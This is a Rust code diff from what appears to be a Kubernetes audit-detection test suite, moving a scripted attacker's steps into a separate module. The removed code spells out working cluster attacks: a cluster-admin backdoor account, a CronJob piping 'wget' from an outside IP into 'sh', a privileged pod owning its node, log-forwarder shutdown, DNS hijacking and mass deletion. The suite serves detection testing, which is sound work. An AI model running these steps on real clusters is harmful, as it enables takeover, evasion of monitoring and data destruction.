@@ -8,8 +8,9 @@
 use serde_json::{Value, json};
 
 use super::apiserver::Cluster;
+use super::attack_end;
 use super::audit_log::text;
-use super::drive::{self, ADMIN, LIMIT, pod_runs};
+use super::drive::{self, ADMIN, LIMIT};
 use super::pki::request;
 use super::process::until;
 
@@ -27,7 +28,7 @@ pub(crate) const MALLORY: &str = "mallory";
 const NOBODY: &str = "";
 const ANONYMOUS: &str = "system:anonymous";
 /// An account of a controller: it may change every role.
-const AGGREGATION: &str = "clusterrole-aggregation-controller";
+pub(crate) const AGGREGATION: &str = "clusterrole-aggregation-controller";
 const AGGREGATION_USER: &str =
     "system:serviceaccount:kube-system:clusterrole-aggregation-controller";
 const RBAC: &str = "rbac.authorization.k8s.io";
@@ -60,21 +61,41 @@ pub(crate) const STEPS: [Step; 27] = [
     ),
     step("certificate for oneself", MALLORY, &["K8A-223", "K8A-221"], certificate_for_oneself),
     // Persistence.
-    step("account made and bound", MALLORY, &["K8A-804", "K8A-301"], account_made_and_bound),
-    step("cron job", MALLORY, &["K8A-510", "K8A-513", "K8A-519"], cron_job),
-    step("mutating webhook", MALLORY, &["K8A-601", "K8A-602"], mutating_webhook),
-    step("token that never ends", MALLORY, &["K8A-215"], token_that_never_ends),
+    step(
+        "account made and bound",
+        MALLORY,
+        &["K8A-804", "K8A-301"],
+        attack_end::account_made_and_bound,
+    ),
+    step("cron job", MALLORY, &["K8A-510", "K8A-513", "K8A-519"], attack_end::cron_job),
+    step("mutating webhook", MALLORY, &["K8A-601", "K8A-602"], attack_end::mutating_webhook),
+    step("token that never ends", MALLORY, &["K8A-215"], attack_end::token_that_never_ends),
     // Evasion.
-    step("events deleted", MALLORY, &["K8A-608"], events_deleted),
-    step("log forwarder stopped", MALLORY, &["K8A-528", "K8A-622"], log_forwarder_stopped),
-    step("pod security lowered", MALLORY, &["K8A-605"], pod_security_lowered),
-    step("grant of a moment", MALLORY, &["K8A-318"], grant_of_a_moment),
+    step("events deleted", MALLORY, &["K8A-608"], attack_end::events_deleted),
+    step(
+        "log forwarder stopped",
+        MALLORY,
+        &["K8A-528", "K8A-622"],
+        attack_end::log_forwarder_stopped,
+    ),
+    step("pod security lowered", MALLORY, &["K8A-605"], attack_end::pod_security_lowered),
+    step("grant of a moment", MALLORY, &["K8A-318"], attack_end::grant_of_a_moment),
     // Impact.
-    step("pod that owns its node", MALLORY, &["K8A-501", "K8A-502", "K8A-505"], node_owned),
-    step("exec into that pod", MALLORY, &["K8A-803", "K8A-424", "K8A-405"], exec_into_that_pod),
-    step("name service changed", MALLORY, &["K8A-610"], name_service_changed),
-    step("much deleted", MALLORY, &["K8A-525", "K8A-211"], much_deleted),
-    step("namespace deleted", MALLORY, &["K8A-526"], namespace_deleted),
+    step(
+        "pod that owns its node",
+        MALLORY,
+        &["K8A-501", "K8A-502", "K8A-505"],
+        attack_end::node_owned,
+    ),
+    step(
+        "exec into that pod",
+        MALLORY,
+        &["K8A-803", "K8A-424", "K8A-405"],
+        attack_end::exec_into_that_pod,
+    ),
+    step("name service changed", MALLORY, &["K8A-610"], attack_end::name_service_changed),
+    step("much deleted", MALLORY, &["K8A-525", "K8A-211"], attack_end::much_deleted),
+    step("namespace deleted", MALLORY, &["K8A-526"], attack_end::namespace_deleted),
 ];
 
 const fn step(
@@ -123,7 +144,7 @@ pub(crate) fn prepare(cluster: &Cluster) {
 }
 
 /// A release called `audit` of the chart `vector`.
-const FORWARDER: &str = "audit-vector";
+pub(crate) const FORWARDER: &str = "audit-vector";
 
 fn too_wide_a_role(cluster: &Cluster) {
     let verbs = ["create", "get", "list", "bind", "escalate"];
@@ -309,159 +330,13 @@ fn certificate_for_oneself(cluster: &Cluster) {
     });
 }
 
-fn account_made_and_bound(cluster: &Cluster) {
-    mallory(cluster, &["create", "serviceaccount", "metrics-sync", "-n", "kube-system"]);
-    let subject = "--serviceaccount=kube-system:metrics-sync";
-    let grant = ["create", "clusterrolebinding", "metrics-sync", "--clusterrole=cluster-admin"];
-    mallory(cluster, &[&grant[..], &[subject]].concat());
-    token(cluster, "metrics-sync", "8760h");
-}
-
-fn cron_job(cluster: &Cluster) {
-    let container = json!({
-        "name": "sync",
-        "image": "docker.io/library/alpine:3",
-        "command": ["sh", "-c", "wget -qO- http://198.51.100.7/s | sh"],
-    });
-    let pod = json!({
-        "serviceAccountName": "metrics-sync",
-        "restartPolicy": "Never",
-        "containers": [container],
-    });
-    cluster.apply(
-        MALLORY,
-        &json!({
-            "apiVersion": "batch/v1",
-            "kind": "CronJob",
-            "metadata": { "name": "metrics-sync", "namespace": "kube-system" },
-            "spec": {
-                "schedule": "0 4 * * *",
-                "jobTemplate": { "spec": { "template": { "spec": pod } } },
-            },
-        }),
-    );
-}
-
-fn mutating_webhook(cluster: &Cluster) {
-    // Nobody listens there, and that is ignored: pods are still made.
-    cluster.apply(
-        MALLORY,
-        &json!({
-            "apiVersion": "admissionregistration.k8s.io/v1",
-            "kind": "MutatingWebhookConfiguration",
-            "metadata": { "name": "metrics-sync" },
-            "webhooks": [{
-                "name": "sync.metrics.example",
-                "clientConfig": { "url": "https://127.0.0.1:9/inject" },
-                "admissionReviewVersions": ["v1"],
-                "sideEffects": "None",
-                "failurePolicy": "Ignore",
-                "timeoutSeconds": 1,
-                "rules": [{
-                    "apiGroups": [""],
-                    "apiVersions": ["v1"],
-                    "operations": ["CREATE"],
-                    "resources": ["pods"],
-                }],
-            }],
-        }),
-    );
-}
-
-fn token_that_never_ends(cluster: &Cluster) {
-    cluster.apply(
-        MALLORY,
-        &json!({
-            "apiVersion": "v1",
-            "kind": "Secret",
-            "type": "kubernetes.io/service-account-token",
-            "metadata": {
-                "name": "metrics-sync-token",
-                "namespace": "kube-system",
-                "annotations": { "kubernetes.io/service-account.name": "metrics-sync" },
-            },
-        }),
-    );
-}
-
-fn events_deleted(cluster: &Cluster) {
-    let deleted = mallory(cluster, &["delete", "events", "--all", "-n", "dev"]);
-    assert!(deleted.contains("deleted"), "the ordinary work left events behind: {deleted}");
-}
-
-fn log_forwarder_stopped(cluster: &Cluster) {
-    let deployment = format!("deployment/{FORWARDER}");
-    mallory(cluster, &["scale", &deployment, "--replicas=0", "-n", "logging"]);
-}
-
-fn pod_security_lowered(cluster: &Cluster) {
-    let label = "pod-security.kubernetes.io/enforce=privileged";
-    mallory(cluster, &["label", "namespace", "dev", label, "--overwrite"]);
-}
-
-fn grant_of_a_moment(cluster: &Cluster) {
-    let grant = ["create", "rolebinding", "tmp", "--clusterrole=admin", "-n", "prod"];
-    let subject = format!("--serviceaccount=kube-system:{AGGREGATION}");
-    mallory(cluster, &[&grant[..], &[&subject]].concat());
-    let header = format!("Authorization: Bearer {}", token(cluster, AGGREGATION, "50h"));
-    let secrets = ["/api/v1/namespaces/prod/secrets".to_owned()];
-    until("the grant to be used", LIMIT, || {
-        (cluster.curl(&["--header", &header], &secrets) == [200]).then_some(())
-    });
-    mallory(cluster, &["delete", "rolebinding", "tmp", "-n", "prod"]);
-}
-
-fn node_owned(cluster: &Cluster) {
-    cluster.apply(
-        MALLORY,
-        &json!({
-            "apiVersion": "v1",
-            "kind": "Pod",
-            "metadata": { "name": "node-shell", "namespace": "dev" },
-            "spec": {
-                "nodeName": "node1",
-                "hostPID": true,
-                "containers": [{
-                    "name": "shell",
-                    "image": "docker.io/library/alpine:3",
-                    "command": ["sleep", "1d"],
-                    "securityContext": { "privileged": true },
-                    "volumeMounts": [{ "name": "host", "mountPath": "/host" }],
-                }],
-                "volumes": [{ "name": "host", "hostPath": { "path": "/" } }],
-            },
-        }),
-    );
-    until("the privileged pod to run", LIMIT, || pod_runs(cluster, "node-shell"));
-}
-
-fn exec_into_that_pod(cluster: &Cluster) {
-    exec(cluster, "node-shell", &["ls", "/host/etc/kubernetes/pki"]);
-}
-
-fn name_service_changed(cluster: &Cluster) {
-    let patch = json!({ "data": { "Corefile": ".:53 {\n  forward . 198.51.100.7\n}\n" } });
-    let patch = patch.to_string();
-    let config = ["patch", "configmap", "coredns", "-n", "kube-system", "--type=merge"];
-    mallory(cluster, &[&config[..], &["-p", &patch]].concat());
-}
-
-fn much_deleted(cluster: &Cluster) {
-    let kinds = "deployments,services,configmaps,secrets,pods";
-    let deleted = mallory(cluster, &["delete", kinds, "--all", "-n", "dev", "--wait=false"]);
-    assert!(drive::SECRETS <= deleted.lines().count(), "much was there: {deleted}");
-}
-
-fn namespace_deleted(cluster: &Cluster) {
-    mallory(cluster, &["delete", "namespace", "dev", "--wait=false"]);
-}
-
-fn mallory(cluster: &Cluster, arguments: &[&str]) -> String {
+/// What kubectl prints for mallory.
+pub(crate) fn mallory(cluster: &Cluster, arguments: &[&str]) -> String {
     cluster.kubectl(MALLORY, arguments)
 }
 
 /// Mallory runs a command in a pod of `dev`. It may fail there; the session must have begun.
-fn exec(cluster: &Cluster, pod: &str, command: &[&str]) {
+pub(crate) fn exec(cluster: &Cluster, pod: &str, command: &[&str]) {
     cluster.try_kubectl(MALLORY, &[&["exec", "-n", "dev", pod, "--"], command].concat());
     cluster.audit_log.wait_for("the session", 1, |event| {
         drive::is_exec(event)
@@ -471,7 +346,7 @@ fn exec(cluster: &Cluster, pod: &str, command: &[&str]) {
 }
 
 /// A token for an account of `kube-system`, made by mallory.
-fn token(cluster: &Cluster, account: &str, duration: &str) -> String {
+pub(crate) fn token(cluster: &Cluster, account: &str, duration: &str) -> String {
     let duration = format!("--duration={duration}");
     let token = mallory(cluster, &["create", "token", account, "-n", "kube-system", &duration]);
     token.trim().to_owned()
